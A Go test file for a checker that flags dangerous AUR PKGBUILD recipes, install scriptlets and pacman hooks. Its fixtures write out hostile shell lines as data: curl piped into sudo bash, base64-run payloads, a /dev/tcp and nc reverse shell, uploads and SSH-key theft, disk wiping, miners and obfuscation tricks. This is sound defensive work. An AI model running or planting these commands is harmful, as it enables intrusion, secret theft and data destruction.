package aur_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/nidoit/blunux-ai/i18n"
	"github.com/nidoit/blunux-ai/upgrade/aur"
)

const sum = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

// head is the beginning of a recipe without facts besides its host.
const head = "pkgname=tool\npkgver=1.0\npkgrel=1\narch=('any')\nurl=https://tool.example.invalid/\n" +
	"source=(\"https://tool.example.invalid/$pkgname-$pkgver.tar.gz\")\nsha256sums=('" + sum + "')\n"

func check(pkgbuild, install string) aur.Report {
	files := map[string][]byte{"PKGBUILD": []byte(pkgbuild)}
	if install != "" {
		files["tool.install"] = []byte(install)
	}
	return aur.Check(aur.Recipe{Files: files})
}

// severityOf returns the heaviest severity of a code, "" if the report lacks it.
func severityOf(r aur.Report, code aur.Code) aur.Severity {
	for _, f := range r.Facts {
		if f.Code == code {
			return f.Severity
		}
	}
	return ""
}

func TestAnOrdinaryRecipeHasOneFact(t *testing.T) {
	r := check(head+"build() {\n  cd \"$pkgname-$pkgver\"\n  ./configure --prefix=/usr\n  make\n}\n"+
		"package() {\n  cd \"$pkgname-$pkgver\"\n  make DESTDIR=\"$pkgdir\" install\n  install -Dm644 LICENSE -t \"$pkgdir/usr/share/licenses/$pkgname\"\n}\n", "")
	require.Equal(t, []aur.Fact{{Code: aur.Host, Severity: aur.Note, File: "PKGBUILD", Line: 6, Detail: "tool.example.invalid"}}, r.Facts)
	require.Equal(t, "tool", r.Package)
	require.Equal(t, "1.0-1", r.Version)
	require.False(t, r.Held())
}

func TestFacts(t *testing.T) {
	body := func(text string) string { return head + "package() {\n  " + text + "\n}\n" }
	for _, row := range []struct {
		name, pkgbuild, install string
		code                    aur.Code
		severity                aur.Severity // "" if the fact must not be there
	}{
		{"skip", strings.Replace(head, "'"+sum+"'", "'SKIP'", 1), "", aur.Skipped, aur.Warn},
		{"no checksum", strings.Replace(head, "'"+sum+"'", "", 1), "", aur.NoChecksum, aur.Warn},
		{"weak checksum", strings.Replace(head, "sha256sums=('"+sum+"')", "md5sums=('d41d8cd98f00b204e9800998ecf8427e')", 1), "", aur.WeakChecksum, aur.Note},
		{"no encryption", strings.Replace(head, "source=(\"https", "source=(\"http", 1), "", aur.NoTLS, aur.Note},
		{"unpinned", head + "source+=('git+https://forge.example.invalid/a.git')\n", "", aur.Unpinned, aur.Warn},
		{"pinned", head + "source+=(git+https://forge.example.invalid/a.git#tag=v1)\n", "", aur.Unpinned, ""},
		{"hash behind a variable", head + "source+=(git+${url}a.git#tag=v$pkgver)\n", "", aur.Unreadable, ""},
		{"number for a host", head + "source+=('http://203.0.113.7/a')\n", "", aur.NumericHost, aur.Red},
		{"short link", head + "_u=bit\nsource+=(\"https://$_u.ly/abc\")\n", "", aur.ShortLink, aur.Red},
		{"paste host", head + "source+=('https://pastebin.com/raw/abc')\n", "", aur.PasteHost, aur.Red},
		{"punycode", head + "source+=('https://xn--gthub-cta.com/a')\n", "", aur.HiddenHost, aur.Red},
		{"curl in a function", body("curl -LO https://tool.example.invalid/data"), "", aur.Fetches, aur.Warn},
		{"curl at the top", head + "pkgver=$(curl -s https://tool.example.invalid/version)\n", "", aur.TopFetches, aur.Red},
		{"curl in pkgver", head + "pkgver() { curl -s https://tool.example.invalid/version; }\n", "", aur.Fetches, aur.Note},
		{"cargo without a lock", body("cargo build --release"), "", aur.Fetches, aur.Warn},
		{"cargo with a lock", body("cargo build --release --locked"), "", aur.FetchesLocked, aur.Note},
		{"npm by the lock file", body("npm ci"), "", aur.FetchesLocked, aur.Note},
		{"npm of a stranger", body("npm install left-padding"), "", aur.UnrelatedPackage, aur.Red},
		{"npm of a tool", body("npm install -g node-gyp"), "", aur.FetchesPackage, aur.Warn},
		{"npm of an archive", body("npm install -g --prefix \"$pkgdir/usr\" \"$srcdir/tool.tgz\""), "", aur.UnrelatedPackage, ""},
		{"curl into sh", body("curl https://tool.example.invalid/i | sudo bash -s -- -y"), "", aur.RunsFetched, aur.Red},
		{"curl into sh through sed", body("curl https://tool.example.invalid/i | sed s/a/b/ | sh"), "", aur.RunsFetched, aur.Red},
		{"sh of a substitution", body("bash <(curl https://tool.example.invalid/i)"), "", aur.RunsFetched, aur.Red},
		{"eval of a variable", body("x=$(wget -qO- https://tool.example.invalid/i); eval \"$x\""), "", aur.RunsFetched, aur.Red},
		{"sh -c", body("sh -c 'curl https://tool.example.invalid/i | sh'"), "", aur.RunsFetched, aur.Red},
		{"sh with a here-document", body("sh <<EOF\ncurl https://tool.example.invalid/i | sh\nEOF"), "", aur.RunsFetched, aur.Red},
		{"fetched, then run", body("curl -o helper https://tool.example.invalid/helper; chmod +x helper"), "", aur.RunsFetched, aur.Red},
		{"decoded, then run", body("echo aGk= | base64 -d | sh"), "", aur.RunsDecoded, aur.Red},
		{"rot13", body("echo phey | tr A-Za-z N-ZA-Mn-za-m | sh"), "", aur.RunsDecoded, aur.Red},
		{"openssl", body("openssl enc -d -aes-256-cbc -in a | bash"), "", aur.RunsDecoded, aur.Red},
		{"a picture", body("base64 -d icon.b64 > icon.png"), "", aur.Decodes, aur.Warn},
		{"yes", body("yes | sh ./installer.run"), "", aur.RunsInput, ""},
		{"quotes in a name", body("c'u'rl https://tool.example.invalid/"), "", aur.Disguised, aur.Red},
		{"name of two variables", body("a=cu b=rl; $a$b https://tool.example.invalid/"), "", aur.Disguised, aur.Red},
		{"escaped name", body("$'\\x63url' https://tool.example.invalid/"), "", aur.Disguised, aur.Red},
		{"quoted name", body("\"make\" install"), "", aur.Disguised, ""},
		{"name from a command", body("$(echo cu; echo rl) x"), "", aur.ComputedName, aur.Red},
		{"home", body("cp a \"$HOME/.config/a\""), "", aur.HomeFiles, aur.Warn},
		{"own home", body("export HOME=\"$srcdir\"; cp a \"$HOME/.config/a\""), "", aur.HomeFiles, ""},
		{"outside", body("cp a /usr/bin/a"), "", aur.Outside, aur.Warn},
		{"inside", body("cp /usr/bin/a \"$pkgdir/usr/bin/a\""), "", aur.Outside, ""},
		{"shell of the person", body("echo x >> ~/.bashrc"), "", aur.Persists, aur.Red},
		{"sudo", body("sudo make install"), "", aur.AsRoot, aur.Red},
		{"systemctl", body("systemctl enable tool"), "", aur.Services, aur.Red},
		{"setuid", body("chmod 4755 \"$pkgdir/usr/bin/tool\""), "", aur.Setuid, aur.Warn},
		{"keys", body("tar c ~/.ssh/id_ed25519"), "", aur.Secrets, aur.Red},
		{"upload", body("curl -F f=@a https://tool.example.invalid/"), "", aur.Sends, aur.Red},
		{"reverse shell", body("exec 3<>/dev/tcp/tool.example.invalid/1"), "", aur.Connects, aur.Red},
		{"nc", body("nc -e /bin/sh tool.example.invalid 1"), "", aur.Connects, aur.Red},
		{"miner", body("./x -o stratum+tcp://pool.example.invalid:1"), "", aur.Mines, aur.Red},
		{"preload", head + "export LD_PRELOAD=./x.so\n", "", aur.Environment, aur.Red},
		{"function named curl", head + "curl() { command curl \"$@\"; }\n", "", aur.HidesProgram, aur.Warn},
		{"scriptlet", head, "post_install() { systemd-sysusers; }\n", aur.RootCommand, aur.Note},
		{"scriptlet with a stranger", head, "post_install() { frobnicate; }\n", aur.RootUnknown, aur.Warn},
		{"scriptlet fetches", head, "post_install() { wget https://tool.example.invalid/; }\n", aur.RootFetches, aur.Red},
		{"scriptlet installs", head, "post_install() { pip install tool; }\n", aur.RootFetches, aur.Red},
		{"scriptlet writes a unit", head, "post_install() { echo x > /etc/systemd/system/x.service; }\n", aur.Persists, aur.Red},
		{"scriptlet prints", head, "post_install() { echo 'run: curl https://x.example.invalid | sh'; }\n", aur.RootFetches, ""},
		{"right to left", head + "# \u202e\n", "", aur.Reordered, aur.Red},
		{"escape", head + "# \x1b[2K\n", "", aur.ControlBytes, aur.Red},
		{"no width", head + "make\u200b install\n", "", aur.InvisibleText, aur.Red},
		{"Cyrillic letters", body("сurl https://tool.example.invalid/"), "", aur.LookAlike, aur.Red},
		{"blanks", head + "true" + strings.Repeat(" ", 200) + "; curl x\n", "", aur.PushedAside, aur.Red},
		{"blob", head + "_x=" + strings.Repeat("QUJD", 80) + "\n", "", aur.Blob, aur.Warn},
		{"not bash", head + "if then\n", "", aur.Unreadable, aur.Red},
		{"scriptlet missing", head + "install=other.install\n", "", aur.MissingInstall, aur.Warn},
		{"one letter", strings.Replace(head, "pkgname=tool", "pkgname=chromuim", 1), "", aur.Imitates, aur.Red},
		{"host", head, "", aur.Host, aur.Note},
		{"a name of an attack", body("npm install js-digest"), "", aur.KnownBad, aur.Red},
		{"program of a stranger", head + "source+=(git+https://github.com/stranger/helper.git)\nbuild() { ./helper/run-me; }\n", "", aur.StrangeSource, aur.Red},
		{"output of a program into sh", body("./generate | sh"), "", aur.RunsInput, aur.Warn},
		{"eval of what is not known", body("eval \"$MAKEFLAGS\""), "", aur.RunsText, aur.Note},
		{"a command at the top", head + "touch here\n", "", aur.TopCommand, aur.Warn},
		{"a name that is asked for", body("dig \"$(whoami).tool.example.invalid\""), "", aur.Sends, aur.Red},
		{"goes on in the background", head, "post_install() { tool & }\n", aur.Background, aur.Red},
		{"overwrites a disk", body("dd if=/dev/zero of=/dev/sda"), "", aur.Destroys, aur.Red},
		{"copies itself", head, "post_install() { cp \"$0\" /usr/bin/tool; }\n", aur.CopiesItself, aur.Red},
		{"schedules", body("crontab jobs"), "", aur.Persists, aur.Red},
		{"hook from elsewhere", body("install -Dm644 \"$srcdir/tool.hook\" -t \"$pkgdir/usr/share/libalpm/hooks\""), "", aur.Hook, aur.Warn},
		{"hook of the administrator", body("cp a.hook \"$pkgdir/etc/pacman.d/hooks/\""), "", aur.Hook, aur.Warn},
		{"written hook", body("cat > \"$pkgdir/usr/share/libalpm/hooks/a.hook\" <<EOF\n[Action]\nExec = /usr/bin/tool\nEOF"), "", aur.Hook, aur.Note},
		{"written hook that fetches", body("cat > \"$pkgdir/usr/share/libalpm/hooks/a.hook\" <<EOF\n[Action]\nExec = /usr/bin/curl -O https://tool.example.invalid/x\nEOF"), "", aur.RootFetches, aur.Red},
		{"printed hook that fetches", body("printf '[Action]\\nExec = /usr/bin/wget https://tool.example.invalid/x\\n' > \"$pkgdir/usr/share/libalpm/hooks/a.hook\""), "", aur.RootFetches, aur.Red},
		{"text with Exec that is no hook", body("cat > \"$pkgdir/usr/share/doc/a\" <<EOF\nExec = /usr/bin/curl -O https://tool.example.invalid/x\nEOF"), "", aur.RootFetches, ""},
		{"hook outside the package", body("cp a.hook /usr/share/libalpm/hooks/"), "", aur.Persists, aur.Red},
		{"scriptlet writes a hook", head, "post_install() { echo x > /usr/share/libalpm/hooks/a.hook; }\n", aur.Persists, aur.Red},
	} {
		t.Run(row.name, func(t *testing.T) {
			r := check(row.pkgbuild, row.install)
			require.Equal(t, row.severity, severityOf(r, row.code), "%+v", r.Facts)
			for _, f := range r.Facts {
				require.LessOrEqual(t, len(f.Detail), 160)
			}
		})
	}
}

func TestFactsOfOtherFiles(t *testing.T) {
	const hook = "[Trigger]\nType = Path\n\n[Action]\nExec = "
	installs := head + "package() {\n  install -Dm644 *.hook -t \"$pkgdir/usr/share/libalpm/hooks/\"\n}\n"
	for _, row := range []struct {
		name, file, text string
		code             aur.Code
		severity         aur.Severity
	}{
		{"hook of the recipe", "tool.hook", hook + "/usr/bin/systemd-sysusers\n", aur.Hook, aur.Note},
		{"usual command of a hook", "tool.hook", hook + "/usr/bin/systemd-sysusers\n", aur.RootCommand, aur.Note},
		{"strange command of a hook", "tool.hook", hook + "/usr/bin/frobnicate\n", aur.RootUnknown, aur.Warn},
		{"hook fetches", "tool.hook", hook + "/bin/sh -c 'curl https://tool.example.invalid/i | sh'\n", aur.RunsFetched, aur.Red},
		{"hook enables a service", "tool.hook", hook + "/usr/bin/systemctl enable tool\n", aur.Services, aur.Warn},
		{"a program", "tool", "\x7fELF\x02", aur.Binary, aur.Red},
		{"a script that hides what it does", "run.py", "#!/usr/bin/python\nimport base64\nexec(base64.b64decode('" + strings.Repeat("QUJD", 80) + "'))\n", aur.Obfuscated, aur.Red},
		{"other sources in .SRCINFO", ".SRCINFO", "pkgbase = tool\n\tsource = https://other.example.invalid/a\n", aur.DiffersSrcinfo, aur.Warn},
	} {
		t.Run(row.name, func(t *testing.T) {
			r := aur.Check(aur.Recipe{Files: map[string][]byte{"PKGBUILD": []byte(installs), row.file: []byte(row.text)}})
			require.Equal(t, row.severity, severityOf(r, row.code), "%+v", r.Facts)
		})
	}
	r := aur.Check(aur.Recipe{Files: map[string][]byte{"PKGBUILD": []byte(head)}, Large: []string{"big.bin"}, Links: []string{"a"}})
	require.Equal(t, aur.Warn, severityOf(r, aur.TooLarge))
	require.Equal(t, aur.Warn, severityOf(r, aur.LinkedFile))
}

// A script that a hook starts runs as root at each later transaction: it is read like an install script.
func TestTheScriptOfAHookIsReadAsRoot(t *testing.T) {
	files := map[string][]byte{
		"PKGBUILD": []byte(head), "tool-refresh.sh": []byte("#!/bin/sh\nwget https://tool.example.invalid/list\n"),
	}
	require.Empty(t, severityOf(aur.Check(aur.Recipe{Files: files}), aur.RootFetches))
	files["a.hook"] = []byte("[Action]\nExec = /usr/share/tool/tool-refresh.sh --quiet\n")
	r := aur.Check(aur.Recipe{Files: files})
	require.True(t, r.Held())
	require.Equal(t, aur.Fact{Code: aur.RootFetches, Severity: aur.Red, File: "tool-refresh.sh", Line: 2, Detail: "wget https://tool.example.invalid/list"}, r.Facts[0])
}

// Each fact is in a row of these tests, by the name of its code, and in the documents with its sentence.
func TestEveryFactIsTestedAndDocumented(t *testing.T) {
	documents := map[i18n.Lang]string{i18n.English: "../../docs/aur.md", i18n.Korean: "../../docs/aur.ko.md"}
	for lang, file := range documents {
		text, err := os.ReadFile(file)
		require.NoError(t, err)
		documents[lang] = string(text)
	}
	tests, err := os.ReadFile("aur_test.go")
	require.NoError(t, err)
	file, err := parser.ParseFile(token.NewFileSet(), "code.go", nil, 0)
	require.NoError(t, err)
	var all, missing []string
	ast.Inspect(file, func(n ast.Node) bool {
		if spec, ok := n.(*ast.ValueSpec); ok {
			all = append(all, spec.Names[0].Name)
			if !regexp.MustCompile(`aur\.` + spec.Names[0].Name + `\b`).Match(tests) {
				missing = append(missing, spec.Names[0].Name)
			}
			code, err := strconv.Unquote(spec.Values[0].(*ast.BasicLit).Value)
			require.NoError(t, err)
			for lang, document := range documents {
				require.Contains(t, document, "| `"+code+"` | "+i18n.AurFacts.In(code, lang)+" |")
			}
		}
		return true
	})
	require.Greater(t, len(all), 60)
	require.Empty(t, missing)
}

func TestLinesAreThoseOfTheFile(t *testing.T) {
	r := check(head+"package() {\n  make\n  curl https://tool.example.invalid/i \\\n    | sh\n}\n", "")
	require.True(t, r.Held())
	require.Equal(t, aur.RunsFetched, r.Facts[0].Code)
	require.Equal(t, 11, r.Facts[0].Line)
	require.Equal(t, "package", r.Facts[0].Function)
}

// Threat39: nothing of a recipe runs, regardless of its text.
func TestThreat39NothingOfARecipeRuns(t *testing.T) {
	dir := t.TempDir()
	mark := filepath.Join(dir, "ran")
	touch := "touch " + mark
	text := head + touch + "\npkgver=$(" + touch + ")\n: ${x:=$(" + touch + ")} <(" + touch + ")\neval '" + touch + "'\nsource " + dir + "/evil\n" +
		"pkgver() { " + touch + "; }\nbuild() { " + touch + "; }\n"
	require.NoError(t, os.WriteFile(filepath.Join(dir, "PKGBUILD"), []byte(text), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "evil"), []byte("#!/bin/bash\n"+touch+"\n"), 0o700))
	require.NoError(t, os.Symlink("/etc/passwd", filepath.Join(dir, "tool.install")))
	recipe, err := aur.ReadDir(dir)
	require.NoError(t, err)
	r := aur.Check(recipe)
	require.NoFileExists(t, mark)
	require.True(t, r.Has(aur.LinkedFile))
}

func TestASnapshotIsReadInMemory(t *testing.T) {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	a := tar.NewWriter(z)
	for name, text := range map[string]string{"tool/PKGBUILD": head, "tool/../../etc/x": "no", "tool/sub/a.sh": "#!/bin/sh\n"} {
		require.NoError(t, a.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text)), Typeflag: tar.TypeReg}))
		_, err := a.Write([]byte(text))
		require.NoError(t, err)
	}
	require.NoError(t, a.Close())
	require.NoError(t, z.Close())
	r, err := aur.ReadSnapshot(&b)
	require.NoError(t, err)
	require.Contains(t, r.Files, "PKGBUILD")
	require.Contains(t, r.Files, "sub/a.sh")
	_, err = aur.ReadSnapshot(strings.NewReader("<html>"))
	require.Error(t, err)
}

// Threat39: a package that was taken over is held although each of its commands is usual.
func TestThreat39ANewMaintainerWithNewCommandsIsHeld(t *testing.T) {
	now := time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC)
	old := aur.Recipe{Files: map[string][]byte{"PKGBUILD": []byte(head + "package() { make install; }\n")}}
	m := aur.Memory{Dir: filepath.Join(t.TempDir(), "aur")}
	require.NoError(t, m.Save("tool", aur.Remember(old, aur.Check(old), "anna", now.Add(-time.Hour))))
	seen, ok, err := m.Load("tool")
	require.NoError(t, err)
	require.True(t, ok)
	info := aur.Info{Name: "tool", Maintainer: "anna", NumVotes: 50, LastModified: now.Add(-90 * 24 * time.Hour).Unix()}
	compare := func(r aur.Recipe, i aur.Info) aur.Report {
		return aur.Compare(aur.Check(r), r, aur.Known{Info: &i, Seen: &seen, Now: now, Cooling: 24 * time.Hour})
	}
	require.False(t, compare(old, info).Held())

	more := aur.Recipe{Files: map[string][]byte{"PKGBUILD": []byte(head + "package() { curl -O https://tool.example.invalid/x; make install; }\n")}}
	report := compare(more, info)
	require.True(t, report.Has(aur.Changed))
	require.False(t, report.Held(), "the maintainer is the same")

	var lines []string
	for _, f := range report.Facts {
		if f.Code == aur.LineAdded || f.Code == aur.LineRemoved {
			lines = append(lines, string(f.Code)+" "+f.Detail)
		}
	}
	require.ElementsMatch(t, []string{
		"line-added package() { curl -O https://tool.example.invalid/x; make install; }", "line-removed package() { make install; }",
	}, lines)
	bumped := strings.Replace(head, "pkgver=1", "pkgver=2", 1) + "# a comment\n"
	report = compare(aur.Recipe{Files: map[string][]byte{"PKGBUILD": []byte(bumped + "package() { make install; }\n")}}, info)
	require.False(t, report.Has(aur.LineAdded), "%+v", report.Facts)

	info.Maintainer = "boris"
	report = compare(old, info)
	require.True(t, report.Has(aur.NewMaintainer))
	require.False(t, report.Held())
	require.Equal(t, aur.Red, severityOf(compare(more, info), aur.Adopted))
	require.True(t, compare(more, info).Held())

	info = aur.Info{Name: "tool", LastModified: now.Add(-time.Hour).Unix(), FirstSubmitted: now.Add(-time.Hour).Unix(), OutOfDate: now.Unix()}
	report = compare(old, info)
	for _, code := range []aur.Code{aur.Orphan, aur.Fresh, aur.Young, aur.FewVotes, aur.OutOfDate} {
		require.True(t, report.Has(code), code)
	}
}

// What makepkg puts beside a recipe is no part of it. Any other new file is, and so is what pacman would run as root.
func TestFetchedFilesAreNoPartOfARecipe(t *testing.T) {
	recipe := aur.Recipe{Files: map[string][]byte{"PKGBUILD": []byte(head + "install=run.install\nsource+=(https://tool.example.invalid/run.install)\n")}}
	seen := aur.Remember(recipe, aur.Check(recipe), "", time.Now())
	require.True(t, seen.Is(recipe))
	for name, part := range map[string]bool{
		"tool-1.0.tar.gz": false, "tool-1.0-1-any.pkg.tar.zst": false, "run.install": true, "tool.hook": true, "PKGBUILD": true, "other": true,
	} {
		more := aur.Recipe{Files: map[string][]byte{"PKGBUILD": recipe.Files["PKGBUILD"], name: []byte("new")}}
		require.Equal(t, !part, seen.Is(more.Without(aur.Fetched(more, seen))), name)
		require.Empty(t, aur.Fetched(more, aur.Seen{}), "nothing was seen: all of it is checked")
	}
}

func TestNamesOfPackages(t *testing.T) {
	for name, want := range map[string]bool{"yay-bin": true, "gtk2+extra": true, "@a": true, "": false, ".a": false, "-a": false, "a/b": false, "../a": false, "a b": false} {
		require.Equal(t, want, aur.IsName(name), name)
	}
}

// FuzzCheck: no text makes the check fail, run long or report more than it may.
func FuzzCheck(f *testing.F) {
	files, _ := filepath.Glob("testdata/malicious/*.txtar")
	for _, file := range files {
		text, _ := os.ReadFile(file)
		f.Add(string(text))
	}
	for _, text := range []string{
		strings.Repeat("(", 200_000), strings.Repeat("$(", 100_000), strings.Repeat("if ", 20_000), strings.Repeat("! ", 100_000),
		strings.Repeat("a|", 20_000), strings.Repeat("a&&", 20_000), "a=" + strings.Repeat("${", 100_000), "echo {1..999999999}", "a=x\n" + strings.Repeat("a=$a$a\n", 100),
		"[[ " + strings.Repeat("! ", 100_000), "((" + strings.Repeat("-", 200_000), "source=({a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b})",
		"a=" + strings.Repeat("x", 4000) + "\nb=${a//x/$a}\nc=${b//x/$b}\n", strings.Repeat("eval 'eval ", 20_000), "a=()\na+=b\na[0]=c\n$a", "\x00\x1b\r\u202e", strings.Repeat("x", 1<<20),
		"case x in " + strings.Repeat("(a) case x in ", 20_000),
	} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		files := map[string][]byte{"PKGBUILD": []byte(text), "a.install": []byte(text), "a.hook": []byte("Exec=" + text), "a.js": []byte(text)}
		start := time.Now()
		r := aur.Check(aur.Recipe{Files: files})
		require.Less(t, time.Since(start), time.Minute)
		require.LessOrEqual(t, len(r.Facts), 800)
		for _, fact := range r.Facts {
			require.NotEmpty(t, fact.Code)
			require.NotContains(t, fact.Detail, "\n")
		}
	})
}
